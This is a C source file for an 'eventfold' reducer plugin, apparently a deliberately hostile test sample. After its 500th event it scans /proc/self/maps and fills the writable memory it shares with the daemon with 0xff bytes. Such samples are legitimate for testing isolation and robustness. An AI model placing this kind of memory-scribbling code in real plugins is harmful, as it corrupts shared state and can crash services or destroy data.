/* From its 500th event on it writes over what the worker shares with the daemon, wherever it can. */
#include <eventfold/reducer.h>
#include <stdio.h>
#include <string.h>

static void scribble(void)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	char line[512], mode[8];
	unsigned long from, to;

	while (maps && fgets(line, sizeof(line), maps))
		if (strstr(line, "eventfold-worker") && sscanf(line, "%lx-%lx %7s", &from, &to, mode) == 3 &&
		    mode[1] == 'w')
			memset((void *)from, 0xff, to - from);
	if (maps)
		fclose(maps);
}

static int reduce(cJSON **state, const struct eventfold_event *ev)
{
	if (!*state)
		*state = cJSON_CreateNumber(0);
	cJSON_SetNumberValue(*state, (double)ev->seq);
	if (ev->seq >= 500)
		scribble();
	return EVENTFOLD_CHANGED;
}

EVENTFOLD_REDUCER = {.abi = EVENTFOLD_ABI, .reduce = reduce};
